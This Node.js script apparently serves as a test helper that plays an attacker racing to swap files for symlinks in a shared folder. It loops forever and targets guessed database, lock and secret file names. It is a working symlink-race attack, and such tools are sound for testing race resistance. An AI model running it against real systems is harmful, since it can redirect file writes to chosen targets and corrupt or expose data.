/*
 * An attacker who owns a folder: puts links in the place of its files, back and forth, as fast as
 * it goes, also under names that appear meanwhile. What gets lost is put back from another folder,
 * so that there is something to attack. node swap-names.mjs FOLDER SPARE TARGET…
 */
import { constants, copyFileSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'

const [folder, spare, ...targets] = process.argv.slice(2)
const likely = ['jeton.db-wal', 'jeton.db-journal', 'jeton.db.lock', 'secret.next', 'x.db']
const spares = readdirSync(spare)
const isOwn = (name) => name.endsWith('.hidden')

function attempt(work) {
  try {
    work()
  } catch {
    // Somebody else was faster.
  }
}

function swap(name, target) {
  const path = join(folder, name)
  attempt(() => renameSync(path, `${path}.hidden`))
  attempt(() => symlinkSync(target, path))
  attempt(() => rmSync(path))
  attempt(() => renameSync(`${path}.hidden`, path))
  if (spares.includes(name)) attempt(() => copyFileSync(join(spare, name), path, constants.COPYFILE_EXCL))
}

console.log('swapping')
for (let round = 0; ; round += 1) {
  const names = new Set([...likely, ...spares, ...readdirSync(folder).filter((name) => !isOwn(name))])
  for (const name of names) swap(name, targets[round % targets.length])
}
